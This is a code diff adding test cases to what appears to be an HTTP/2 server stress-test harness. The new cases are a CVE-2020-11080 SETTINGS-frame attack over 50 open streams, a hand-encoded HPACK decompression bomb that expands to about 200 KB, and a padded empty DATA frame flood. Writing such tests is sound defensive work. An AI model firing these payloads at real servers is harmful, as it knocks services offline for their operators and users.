@@ -195,6 +195,26 @@ def case_settings_flood(p):
     flood(p, settings(), 200000)
 
 
+def case_settings_large(p):
+    """CVE-2020-11080: SETTINGS frames of 2,700 entries (INITIAL_WINDOW_SIZE over and over), streams open."""
+    p.start()
+    p.send(*[p.headers(2 * i + 1, request("POST"), end_stream=False) for i in range(50)])
+    entries = [(4, 65535 + (i & 1)) for i in range(2700)]
+    for _ in range(100):
+        p.send(settings(*entries))
+        if p.result["closed"]:
+            return
+
+
+def case_hpack_bomb(p):
+    """A 4,000-octet field indexed once, then referenced 50 times by one octet each: 200 KB decoded, 55 fields."""
+    p.start()
+    value = b"v" * 4000
+    block = b"\x82\x86\x84\x41\x01a" + b"\x40\x05x-big" + bytes([0x7F, 4000 - 127 - 0x80 * ((4000 - 127) // 128) | 0x80, (4000 - 127) // 128]) + value
+    block += b"\xbe" * 50
+    p.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
+
+
 def case_ping_flood(p):
     p.start()
     flood(p, frame(PING, 0, 0, b"pingping"), 200000)
@@ -280,6 +300,12 @@ def case_empty_data_flood(p):
     p.start()
     p.send(p.headers(1, request("POST"), end_stream=False))
     flood(p, frame(DATA, 0, 1), 1000)
+
+
+def case_padded_data_flood(p):
+    p.start()
+    p.send(p.headers(1, request("POST"), end_stream=False))
+    flood(p, frame(DATA, 0x8, 1, b"\x04" + b"\x00" * 4), 1000)  # PADDED, 4 octets of padding, no data
 
 
 def case_priority_flood(p):
